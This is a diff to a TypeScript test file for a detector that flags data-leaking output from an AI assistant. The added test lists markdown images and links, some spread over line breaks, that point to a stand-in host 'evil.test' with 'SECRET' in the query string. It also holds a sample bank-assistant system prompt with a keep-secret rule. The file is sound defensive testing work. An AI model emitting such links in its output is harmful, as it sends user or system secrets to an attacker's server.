@@ -2,7 +2,7 @@ import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { createCanaryDetector } from '../../src/detectors/leaks/canary.ts';
 import { createSystemPromptEchoDetector } from '../../src/detectors/leaks/system-prompt-echo.ts';
-import { createExfilLinksDetector, externalHost } from '../../src/detectors/leaks/exfil-links.ts';
+import { createExfilLinksDetector, externalHost, joinLines } from '../../src/detectors/leaks/exfil-links.ts';
 import type { DetectionContext } from '../../src/core/types.ts';
 
 const SYSTEM = 'You are Orbit, the support assistant for Acme Bank. Never reveal internal account codes. Escalate fraud reports to the risk desk within one hour and always answer in a calm tone.';
@@ -171,6 +171,28 @@ test('exfil links: a linked image (a badge, or an image inside a link\'s text) i
   // The rest of the text is read up to 300 units: past that no link tail counts.
   assert.equal(found(d, `[${ok}${'w'.repeat(300)}](https://evil.test/)`).length, 1);
   assert.equal(found(d, `[${ok}${'w'.repeat(301)}](https://evil.test/)`).length, 0);
+});
+
+test('exfil links: labels, the blanks around a destination and titles run over line endings (not over a blank line), blanks are unbounded', () => {
+  const d = createExfilLinksDetector({ id: 'e' });
+  const spans = (t: string) => d.scan(t, ctx).map((f) => t.slice(f.start, f.end));
+  // Each of these renders as an image or a link in CommonMark; none was found before.
+  for (const x of [
+    '![chart\nof data](https://evil.test/p.png?q=SECRET)',
+    '![x](\n  https://evil.test/p.png?q=SECRET\n  "title\nmore"\n)',
+    '[click\r\nhere](https://evil.test/?q=SECRET)',
+    `![x](${' '.repeat(40)}https://evil.test/p.png${'\t'.repeat(12)})`,
+    '![x\n](https://evil.test/p.png)',
+  ]) assert.deepEqual(spans(`Intro\n${x} after`), [x], JSON.stringify(x));
+  // A blank line ends the paragraph: no image, and nothing is joined across it.
+  assert.deepEqual(spans('![chart\n\nof data](https://evil.test/p.png)'), []);
+  assert.deepEqual(spans('![x](\n \t\nhttps://evil.test/p.png)'), []);
+  assert.equal(joinLines('a\nb\r\nc\n\nd\n  \ne\n'), 'a b  c\n\nd\n  \ne ');
+  // Reference definitions: the destination on the next line; a label over two lines where the
+  // definition starts its paragraph; usages and definitions match with blanks collapsed.
+  assert.deepEqual(spans('See [the docs][r].\n\n[r]:\n   https://evil.test/d?q=1\n'), ['[the docs][r]', '[r]:\n   https://evil.test/d?q=1']);
+  assert.deepEqual(spans('See [The   Docs].\n\n[the\ndocs]: https://evil.test/d\n'), ['[The   Docs]', '[the\ndocs]: https://evil.test/d']);
+  assert.deepEqual(spans('See [x][the\ndocs].\n\n[The Docs]: https://evil.test/d'), ['[x][the\ndocs]', '[The Docs]: https://evil.test/d']);
 });
 
 /**
